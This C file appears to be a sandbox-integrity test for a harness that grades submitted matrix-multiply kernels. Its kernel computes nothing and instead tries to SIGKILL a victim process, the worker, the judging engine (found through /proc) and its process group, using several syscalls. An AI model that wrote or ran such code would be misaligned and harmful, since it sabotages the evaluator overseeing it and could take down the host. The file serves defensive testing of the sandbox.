/*
 * ATTACK signal_others — kill the judge and a bystander. The kernel sends
 * SIGKILL to a victim process the test started (its pid comes in
 * -DINTEGRITY_VICTIM) and to its own parent (the worker) and grandparent
 * (the engine), by kill, tgkill, rt_sigqueueinfo and pidfd_send_signal, and
 * to its process group; then computes nothing. A candidate that can signal
 * the engine can end the run, and one that can signal anything can take
 * the host down. It never signals -1 (everyone) even here.
 * Stopped by: seccomp (only self may be signalled) and an unprivileged uid
 * or pid namespace (issue 10, item 2). Today's runner filter denies these.
 * integrity: expect=any
 */
#define _GNU_SOURCE
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef INTEGRITY_VICTIM
#define INTEGRITY_VICTIM 0
#endif

static pid_t parent_of(pid_t pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *f = fopen(path, "r");
    int ppid = 0;
    if (!f || fscanf(f, "%*d %*s %*c %d", &ppid) != 1)
        ppid = 0;
    if (f)
        fclose(f);
    return ppid;
}

static void hit(pid_t pid)
{
    if (pid <= 1)
        return;
    siginfo_t info;
    memset(&info, 0, sizeof info);
    info.si_signo = SIGKILL;
    info.si_code = SI_QUEUE;
    if (kill(pid, SIGKILL) == 0)
        fprintf(stderr, "killed %d\n", (int)pid);
    syscall(SYS_tgkill, pid, pid, SIGKILL);
    syscall(SYS_rt_sigqueueinfo, pid, SIGKILL, &info);
#if defined(SYS_pidfd_open) && defined(SYS_pidfd_send_signal)
    int fd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (fd >= 0) {
        syscall(SYS_pidfd_send_signal, fd, SIGKILL, NULL, 0);
        close(fd);
    }
#endif
}

void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *C)
{
    (void)M, (void)N, (void)K, (void)A, (void)B, (void)C;
    hit(INTEGRITY_VICTIM);
    pid_t worker = getppid();
    pid_t engine = parent_of(worker);
    hit(engine);
    hit(worker);
    kill(-getpgrp(), SIGKILL);
}
